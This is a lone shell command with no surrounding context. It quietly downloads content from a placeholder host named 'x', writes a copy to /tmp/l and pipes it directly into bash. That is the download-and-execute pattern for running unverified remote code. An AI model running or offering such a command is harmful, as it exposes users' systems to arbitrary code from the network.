curl -s x | tee /tmp/l | bash
